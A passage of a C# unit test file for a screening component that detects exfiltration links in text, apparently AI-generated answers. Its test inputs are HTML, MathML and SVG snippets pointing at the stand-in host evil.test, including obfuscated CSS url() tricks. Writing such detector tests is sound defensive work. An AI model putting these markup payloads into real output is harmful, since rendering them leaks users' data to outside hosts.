    [InlineData("<a href=\"#\" data-bs-toggle=\"tooltip\" data-bs-original-title=\"https://evil.test/help\">help</a>")]
    [InlineData("<button data-bs-toggle=popover Data-Bs-Original-Content='See, //evil.test/docs'>?</button>")]
    public void A_tooltip_title_is_text_not_a_source(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    [Theory]
    [InlineData("<div data-original-url=\"https://evil.test/p.png\">x</div>")]
    [InlineData("<span data-title-original=\"//evil.test/p.png\">x</span>")]
    [InlineData("<div data-bs-original-src=\"//evil.test/p.png\">x</div>")]
    [InlineData("<div data-bs-src=\"https://evil.test/p.png\">x</div>")]
    public void Other_data_names_with_original_and_bootstrap_5_lazy_names_are_still_read_as_sources(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    /// <summary>
    /// A piece of an answer that holds a MathML element or an SVG presentation attribute but not the <c>&lt;math&gt;</c>
    /// or <c>&lt;svg&gt;</c> it stands in (a streamed screening reads such pieces): the reader reads each element
    /// wherever it stands, but the probe did not open on these, so the reader never ran.
    /// </summary>
    [Theory]
    [InlineData("<mi href=\"https://evil.test/x\">x</mi></math>", "markdown_link", 0.7)]
    [InlineData("<mtd xlink:href=//evil.test/x>1</mtd>", "markdown_link", 0.7)]
    [InlineData("<rect stroke=\"u\\72l(//evil.test/s.svg#s) red\"/></svg>", "html_fetch", 0.95)]
    [InlineData("<rect fill=\"&#117;rl(https://evil.test/p.svg#g)\"/></svg>", "html_fetch", 0.95)]
    public void A_mathml_or_svg_element_without_its_root_is_read(string text, string label, double score) =>
        Assert.Equal((label, score), SingleFinding(text));

    private static (string Label, double Score) SingleFinding(string text)
    {
        var m = Assert.Single(Exfil.Find(text, Allowed));
        return (m.Label, m.Score);
    }

    private const string Long =
        "a long description of the picture, repeated to run past what the image patterns read before its source. "
        + "a long description of the picture, repeated to run past what the image patterns read before its source. "
        + "a long description of the picture, repeated to run past what the image patterns read before its source. "
        + "a long description of the picture, repeated to run past what the image patterns read before its source. "
        + "a long description of the picture, repeated to run past what the image patterns read before its source. "
        + "a long description of the picture, repeated to run past what the image patterns read before its source. ";
}
